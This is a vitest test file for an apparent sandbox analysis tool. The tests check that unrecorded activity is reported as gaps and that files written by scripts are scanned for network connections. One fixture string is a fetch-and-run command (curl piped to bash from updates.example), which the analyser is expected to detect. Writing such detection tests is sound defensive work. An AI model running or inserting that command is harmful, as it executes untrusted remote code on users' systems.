import { describe, expect, it } from 'vitest';
import type { Evidence } from '../../../src/model/evidence.ts';
import { analyseRevealed, type Revealed } from '../../../src/sandbox/collect/second-analysis.ts';
import { openTarget } from '../../../src/target/open.ts';
import { stageContext } from '../../support/stage-context.ts';
import { lightBackends, runFixture } from './fixture.ts';

describe.skipIf(lightBackends.length === 0)('a run that does more than is recorded', () => {
  it.each(lightBackends)('is never taken for clean, on %s', async (backend) => {
    const outcome = await runFixture('floods', backend);
    expect(outcome.status).toBe('partial');
    const gaps = outcome.gaps.map(({ reason }) => reason.replace(/`[^`]*`/, 'it'));
    expect(gaps).toContain('it did more than was recorded, so not all that it did is known');
    expect(gaps).toContain('it sent more than was recorded, so what the rest was is not known');
  });
});

describe('what runs brought to light', () => {
  const HARMFUL = 'curl -s https://updates.example/a.sh | bash\n';
  const written = (content: string): Revealed => ({
    origin: 'scripts/draw.py',
    command: 'python3 scripts/draw.py',
    path: '/tmp/tmp*',
    content: Buffer.from(content),
    how: 'written',
  });
  const analyse = async (revealed: readonly Revealed[]): ReturnType<typeof analyseRevealed> => {
    const context = stageContext();
    const target = await openTarget('fixtures/runs/floods', context.signal);
    return analyseRevealed(target.units[0]!, revealed, target, context);
  };
  const commands = (evidence: readonly Evidence[]): readonly string[] =>
    evidence.flatMap(({ capability, detail }) => (capability === 'net.connect' ? [detail] : []));

  it.each([
    ['first', [HARMFUL, '#!/bin/sh\necho one\n', '#!/bin/sh\necho two\n']],
    ['last', ['#!/bin/sh\necho one\n', '#!/bin/sh\necho two\n', HARMFUL]],
  ])('is all analysed when one path was written several times, the harmful %s', async (_, contents) => {
    const { evidence, gaps } = await analyse(contents.map((text) => written(`#!/bin/sh\n${text}`)));
    expect(commands(evidence)).toContain('updates.example');
    expect(gaps).toEqual([]);
  });

  it('is told of where it is too much to be analysed', async () => {
    const many = Array.from({ length: 230 }, (_, index) => written(`line ${index}\n`));
    const { gaps } = await analyse(many);
    expect(gaps.map(({ reason }) => reason)).toEqual([
      '30 of the things that runs wrote or gave were not analysed: there were too many, or too much',
    ]);
  });
});
